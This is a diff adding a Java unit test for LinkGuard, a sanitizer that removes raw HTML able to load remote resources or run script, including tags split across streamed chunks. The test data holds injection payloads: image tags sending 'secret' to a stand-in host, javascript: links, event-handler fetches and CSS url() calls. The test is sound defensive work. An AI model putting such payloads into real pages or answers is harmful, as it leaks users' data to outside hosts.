@@ -28,6 +28,52 @@ class LinkGuardTest {
     }
 
     @Test
+    void rawHtmlThatLoadsOrRunsSomethingIsRemovedLikeAMarkdownImage() {
+        String[][] cases = {
+            {"a <img src=\"https://canary.example/x?d=secret\" alt=\"cat\"> b", "a cat b"},
+            {"a <IMG SRC=https://docs.quire.dev/x.png> b", "a  b"}, // even on an allowed host: no raw images
+            {"<img/src=https://canary.example/x>", ""},
+            {"x <img alt=\"a>b\" src=\"https://canary.example/q\"> y", "x a>b y"},
+            {"<picture><source srcset=\"https://canary.example/a 1x\"><img src=x alt=p></picture>", "p"},
+            {"<iframe src=\"https://canary.example/f\"></iframe>ok", "ok"},
+            {"<object data=\"https://canary.example/o\"></object><embed src=https://canary.example/e>", ""},
+            {"<video src=https://canary.example/v poster=https://canary.example/p></video>", ""},
+            {"<audio src='https://canary.example/a'></audio>", ""},
+            {"<link rel=stylesheet href=https://canary.example/s.css>", ""},
+            {"<div style=\"background:url(https://canary.example/b)\">text</div>", "text</div>"},
+            {"<span style=\"background: u\\rl('https://canary.example')\">t</span>", "t</span>"},
+            {"<a href=\"javascript:alert(1)\">click</a> me", "click me"},
+            {"<a title=\"x>\" href=\"javascript:alert(1)\">click</a>", "click"},
+            {"<a href=\"https://canary.example/l\">label</a>", "label"},
+            {"<p onmouseover=\"fetch('https://canary.example')\">hi</p>", "hi</p>"},
+            {"<meta http-equiv=refresh content=\"0;url=https://canary.example\">", ""},
+            {"<script>fetch('https://canary.example')</script>", "fetch('https://canary.example')"},
+        };
+        for (String[] c : cases) {
+            assertEquals(c[1], LinkGuard.clean(c[0], ALLOWED), c[0]);
+        }
+        // a tag still open when the answer ends (a quote cut mid-tag) cannot be completed by later text
+        assertEquals(
+                "cut &lt;img src=\"https://canary.example/p.png [1]",
+                LinkGuard.clean("cut <img src=\"https://canary.example/p.png [1]", ALLOWED));
+        // harmless HTML and comparisons stay as they are, links to allowed hosts too
+        assertEquals("<b>bold</b> and 3 < 4, x<y", LinkGuard.clean("<b>bold</b> and 3 < 4, x<y", ALLOWED));
+        assertEquals(
+                "<a href=\"https://docs.quire.dev/a\">guide</a>",
+                LinkGuard.clean("<a href=\"https://docs.quire.dev/a\">guide</a>", ALLOWED));
+        // split over deltas, the tag is held back until its '>' and then removed
+        List<String> out = new ArrayList<>();
+        var guard = new LinkGuard(ALLOWED, out::add);
+        for (String d :
+                List.of("See <im", "g src=\"https://can", "ary.example/x?d=", "secret\" alt=\"the chart\"", "> now")) {
+            guard.accept(d);
+        }
+        guard.finish();
+        assertEquals("See the chart now", String.join("", out));
+        assertEquals(1, guard.neutralised());
+    }
+
+    @Test
     void aLinkSplitAcrossDeltasIsHeldBackUntilDecided() {
         List<String> out = new ArrayList<>();
         var guard = new LinkGuard(ALLOWED, out::add);
